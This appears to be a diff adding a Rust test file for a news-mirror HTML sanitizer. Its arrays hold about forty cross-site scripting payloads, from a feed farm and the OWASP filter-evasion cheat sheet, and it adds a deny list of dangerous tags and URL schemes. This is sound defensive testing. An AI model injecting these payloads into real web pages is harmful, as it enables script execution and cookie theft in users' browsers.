@@ -1,0 +1,138 @@
+//! The allow-list sanitizer against hostile HTML: the feed farm's `xss` payloads and the
+//! classic filter-evasion vectors. Nothing executable survives; article markup does.
+
+use newsmirror::clean::sanitize;
+
+const FARM_XSS: [&str; 16] = [
+    "<p>正文<script>alert(1)</script></p>",
+    "<img src=x onerror=\"alert(2)\"><p>图片</p>",
+    "<a href=\"javascript:alert(3)\">链接</a>",
+    "<a href=\"JaVaScRiPt&#58;alert(4)\">编码链接</a>",
+    "<iframe src=\"https://evil.example/\"></iframe><p>框架</p>",
+    "<svg><script>alert(5)</script></svg><p>矢量</p>",
+    "<div style=\"background:url(javascript:alert(6))\">样式</div>",
+    "<form action=\"https://evil.example/\"><input name=\"p\"></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>",
+    "<p onclick=\"alert(8)\" onmouseover=\"alert(9)\">事件</p>",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=\"></object>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+    "<base href=\"https://evil.example/\"><p>base</p>",
+    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTEpPjwvc3ZnPg==\">",
+    "<style>body{display:none}</style><p>隐藏</p>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(12)>\"></noscript>",
+];
+
+/// Classic vectors (OWASP filter-evasion cheat sheet and friends).
+const CLASSIC: [&str; 24] = [
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
+    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<svg/onload=alert('XSS')>",
+    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+];
+
+fn assert_inert(input: &str) {
+    let base = url::Url::parse("https://news.example/a/1.html").unwrap();
+    let out = sanitize(input, &base);
+    let lower = out.to_ascii_lowercase();
+    for bad in [
+        "<script",
+        "<iframe",
+        "<object",
+        "<embed",
+        "<form",
+        "<input",
+        "<meta",
+        "<base",
+        "<style",
+        "<svg",
+        "<math",
+        "<link",
+        "javascript:",
+        "vbscript:",
+        "data:text",
+        "data:image/svg",
+        "expression(",
+    ] {
+        assert!(
+            !lower.contains(bad),
+            "{bad} survived\n  in:  {input}\n  out: {out}"
+        );
+    }
+    // No event handler attribute: ` on…=` inside a tag.
+    let mut in_tag = false;
+    let chars: Vec<char> = lower.chars().collect();
+    for (i, c) in chars.iter().enumerate() {
+        match c {
+            '<' => in_tag = true,
+            '>' => in_tag = false,
+            _ if in_tag && c.is_whitespace() => {
+                let rest: String = chars[i + 1..].iter().take(12).collect();
+                assert!(
+                    !(rest.starts_with("on") && rest.contains('=')),
+                    "event handler survived\n  in:  {input}\n  out: {out}"
+                );
+            }
+            _ => {}
+        }
+    }
+}
+
+#[test]
+fn hostile_html_is_made_inert() {
+    for p in FARM_XSS.iter().chain(CLASSIC.iter()) {
+        assert_inert(p);
+    }
+}
+
+#[test]
+fn ordinary_article_markup_survives() {
+    let base = url::Url::parse("https://news.example/a/1.html").unwrap();
+    let html = "<h2>小标题</h2><p>第一段<strong>强调</strong><em>斜体</em><a href=\"https://x.example/\">链接</a></p>\
+<figure><img src=\"/i.jpg\" alt=\"图\" width=\"600\"><figcaption>说明</figcaption></figure>\
+<blockquote><p>引文</p></blockquote><ol><li>一</li><li>二</li></ol>\
+<table><thead><tr><th>甲</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>\
+<img src=\"data:image/png;base64,iVBORw0KGgo=\">";
+    let out = sanitize(html, &base);
+    for keep in [
+        "<h2>小标题</h2>",
+        "<strong>强调</strong>",
+        "<em>斜体</em>",
+        "<figure>",
+        "<figcaption>说明</figcaption>",
+        "<blockquote><p>引文</p></blockquote>",
+        "<ol><li>一</li><li>二</li></ol>",
+        "<th>甲</th>",
+        "<td>1</td>",
+        "src=\"https://news.example/i.jpg\"",
+        "alt=\"图\"",
+        "rel=\"noopener noreferrer\"",
+        "data:image/png;base64",
+    ] {
+        assert!(out.contains(keep), "{keep} lost: {out}");
+    }
+    // The farm's payloads keep their text.
+    let farm = sanitize(&FARM_XSS.concat(), &base);
+    for t in ["正文", "图片", "链接", "框架", "事件", "隐藏"] {
+        assert!(farm.contains(t), "{t} lost: {farm}");
+    }
+}
